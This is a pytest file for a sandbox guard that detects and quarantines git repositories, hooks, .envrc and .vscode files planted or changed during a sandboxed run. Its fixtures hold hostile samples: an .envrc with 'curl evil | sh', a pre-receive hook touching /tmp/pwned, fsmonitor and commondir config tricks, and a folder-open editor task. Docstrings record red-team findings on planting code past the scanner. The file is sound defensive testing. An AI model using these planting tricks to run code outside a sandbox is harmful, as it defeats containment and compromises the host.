"""The check after a run: git repositories and their dangerous files made or changed since a moment."""

import os
import re
import time

from rootsand.guard import gitaudit


def make(path, text=""):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def test_only_what_was_made_after_the_start_is_moved_aside(tmp_path):
    make(tmp_path / ".git" / "config", "[core]\n")
    make(tmp_path / ".git" / "hooks" / "pre-commit.sample")
    make(tmp_path / "old" / ".git" / "config")
    make(tmp_path / ".git" / "modules" / "lib" / "config")
    make(tmp_path / ".git" / "HEAD", "ref: refs/heads/main\n")
    known = gitaudit.known_git_dirs([str(tmp_path)])
    since = time.time() + 0.05
    time.sleep(0.1)  # file times are the kernel's coarse clock: clearly after `since`
    make(tmp_path / "src" / ".git" / "config")  # a planted repository
    make(tmp_path / ".git" / "commondir", "../evil\n")
    make(tmp_path / ".git" / "hooks" / "post-checkout")
    make(tmp_path / ".git" / "modules" / "lib" / "config", "[core]\n\tfsmonitor = x\n")
    make(tmp_path / "deep" / "a" / "b" / "c" / ".git", "gitdir: /elsewhere\n")
    make(tmp_path / ".git" / "objects" / "ab" / "cdef")  # ordinary git work: not looked at
    warnings = gitaudit.audit([str(tmp_path)], since, known=known)
    moved = sorted(w.split(" was made")[0].removeprefix(str(tmp_path)) for w in warnings)
    # hooks as a whole: its directory changed (a hook added), as when one is renamed into place
    assert moved == ["/.git/commondir", "/.git/hooks", "/.git/modules/lib/config", "/deep/a/b/c/.git", "/src/.git"]
    stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(since))
    assert os.path.exists(tmp_path / "src" / f".git.rootsand-quarantine-{stamp}" / "config")
    assert os.path.exists(tmp_path / ".git" / f"commondir.rootsand-quarantine-{stamp}")
    assert os.path.exists(tmp_path / "old" / ".git" / "config") and os.path.exists(tmp_path / ".git" / "config")
    assert gitaudit.audit([str(tmp_path)], since, known=known) == []  # what is moved aside stays aside


def test_an_old_directory_renamed_into_place_and_links_count_as_made(tmp_path):
    make(tmp_path / "docs" / "HEAD", "ref: refs/heads/main\n")
    make(tmp_path / "docs" / "config", "[core]\n\tfsmonitor = evil\n")  # written in an earlier run
    make(tmp_path / "hookdir" / "pre-commit", "evil\n")
    make(tmp_path / ".git" / "modules" / "vendor" / "lib" / "config")
    os.makedirs(tmp_path / ".git" / "modules" / "vendor" / "lib" / "hooks")
    known = gitaudit.known_git_dirs([str(tmp_path)])
    since = time.time() + 0.05
    time.sleep(0.1)
    os.makedirs(tmp_path / "src")
    os.rename(tmp_path / "docs", tmp_path / "src" / ".git")
    os.rename(tmp_path / ".git" / "modules" / "vendor" / "lib" / "hooks", tmp_path / "oldhooks")
    os.symlink("../../../../hookdir", tmp_path / ".git" / "modules" / "vendor" / "lib" / "hooks")
    warnings = gitaudit.audit([str(tmp_path)], since, known=known)
    moved = sorted(w.split(" was made")[0].removeprefix(str(tmp_path)) for w in warnings)
    assert moved == ["/.git/modules/vendor/lib/hooks", "/src/.git"]


def test_a_directory_made_unreadable_is_checked_and_its_mode_put_back(tmp_path):
    since = time.time()
    time.sleep(0.05)
    make(tmp_path / "locked" / "deep" / ".git" / "config")
    os.chmod(tmp_path / "locked", 0o311)  # git only needs to pass through it
    try:
        warnings = gitaudit.audit([str(tmp_path)], since)
        assert [w.split(" was made")[0] for w in warnings] == [f"{tmp_path}/locked/deep/.git"]
        assert os.stat(tmp_path / "locked").st_mode & 0o777 == 0o311
    finally:
        os.chmod(tmp_path / "locked", 0o755)


def test_a_name_too_long_for_the_suffix_is_said_not_raised(tmp_path):
    long = "h" * 250
    make(tmp_path / ".git" / "HEAD")
    make(tmp_path / ".git" / "hooks" / long, "old\n")
    known = gitaudit.known_git_dirs([str(tmp_path)])
    since = time.time() + 0.05
    time.sleep(0.1)
    with open(tmp_path / ".git" / "hooks" / long, "w") as f:  # changed in place: the directory is not
        f.write("evil\n")
    make(tmp_path / "src" / ".git" / "config")
    warnings = gitaudit.audit([str(tmp_path)], since, known=known)
    assert any(w.startswith(f"{tmp_path}/.git/hooks/{long} was made or changed by the sandbox and could not be moved")
               for w in warnings)
    assert any(w.startswith(f"{tmp_path}/src/.git was made or changed by the sandbox: renamed") for w in warnings)


def test_skipped_paths_and_links_are_left_alone(tmp_path):
    since = time.time()
    time.sleep(0.05)
    make(tmp_path / "mine" / ".git")
    os.symlink("/", tmp_path / "root")  # not followed
    assert gitaudit.audit([str(tmp_path)], since, {str(tmp_path / "mine" / ".git")}) == []


def test_a_quarantine_name_taken_in_advance_gets_random_letters(tmp_path):
    from rootsand.guard.gitaudit import aside_name

    (tmp_path / ".envrc.rootsand-quarantine-20261201-120000").write_text("decoy")
    fd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        name = aside_name(fd, ".envrc", "20261201-120000")
    finally:
        os.close(fd)
    assert re.fullmatch(r"\.envrc\.rootsand-quarantine-20261201-120000-[0-9a-f]{8}", name), name


def test_a_spent_budget_names_every_directory_left_unchecked(tmp_path, monkeypatch):
    """Fourth attack, finding 4: the walk takes the last name first, so a sandbox filled zzz/ to spend the
    budget and planted aaa/.git: the warning must name the whole directory, not where the walk stopped."""
    monkeypatch.setattr(gitaudit, "MAX_ENTRIES", 50)
    since = time.time() - 1
    for i in range(60):
        make(tmp_path / "zzz" / f"f{i}")
    make(tmp_path / "aaa" / ".git" / "config", "[core]\n\tfsmonitor = x\n")
    warnings = gitaudit.audit([str(tmp_path)], since)
    assert warnings == [f"stopped checking for planted git repositories after 50 entries (at {tmp_path}/zzz): not all "
                        f"of {tmp_path} was checked: do not run git anywhere in it before you have looked"]


def test_head_and_commondir_make_a_repository(tmp_path):
    """Fourth attack, finding 3: git takes a directory holding HEAD and a commondir file for a repository."""
    since = time.time() - 1
    make(tmp_path / "src" / "HEAD", "ref: refs/heads/main\n")
    make(tmp_path / "src" / "commondir", "../build/cache\n")
    warnings = gitaudit.audit([str(tmp_path)], since)
    assert [w.split(" was made")[0] for w in warnings] == [f"{tmp_path}/src/HEAD"]
    assert not os.path.exists(tmp_path / "src" / "HEAD")


def test_a_repository_planted_under_a_quarantine_name_is_checked_too(tmp_path):
    since = time.time() - 1
    make(tmp_path / "x.rootsand-quarantine-1" / "sub" / ".git" / "config")
    warnings = gitaudit.audit([str(tmp_path)], since)
    assert [w.split(" was made")[0] for w in warnings] == [f"{tmp_path}/x.rootsand-quarantine-1/sub/.git"]


def test_a_hook_added_to_a_bare_repository_that_was_there_is_moved_aside(tmp_path):
    """Fifth attack, finding 2: a bare repository's hooks run on push into it."""
    for name in ("HEAD", "config", "objects/x", "refs/heads/x", "hooks/pre-receive.sample"):
        make(tmp_path / "origin.git" / name)
    since = time.time() + 0.05
    time.sleep(0.1)
    make(tmp_path / "origin.git" / "hooks" / "pre-receive", "#!/bin/sh\ntouch /tmp/pwned\n")
    warnings = gitaudit.audit([str(tmp_path)], since)
    assert [w.split(" was made")[0] for w in warnings] == [f"{tmp_path}/origin.git/hooks"]
    assert os.path.exists(tmp_path / "origin.git" / "HEAD")  # the repository itself stays


def test_protected_names_below_the_top_are_checked_too(tmp_path):
    """What direnv and editors run from any directory (`sub/.envrc`, `pkg/.vscode/tasks.json`): made or
    changed in the run, moved aside; one that was there and untouched stays."""
    make(tmp_path / "old" / ".envrc", "export A=1\n")
    make(tmp_path / "pkg" / ".vscode" / "tasks.json", "{}\n")
    make(tmp_path / "kept" / ".vscode" / "settings.json", "{}\n")
    since = time.time() + 0.05
    time.sleep(0.1)
    make(tmp_path / "sub" / ".envrc", "curl evil | sh\n")
    make(tmp_path / "pkg" / ".vscode" / "tasks.json", '{"runOn": "folderOpen"}\n')
    warnings = gitaudit.audit([str(tmp_path)], since, names={".envrc", ".vscode", ".git"})
    moved = sorted(w.split(" was made")[0].removeprefix(str(tmp_path)) for w in warnings)
    assert moved == ["/pkg/.vscode", "/sub/.envrc"]
    assert all("so direnv and editors do not run what it names" in w for w in warnings)
    assert "renamed to .envrc.rootsand-quarantine-" in "".join(warnings)
    assert os.path.exists(tmp_path / "old" / ".envrc") and os.path.exists(tmp_path / "kept" / ".vscode")
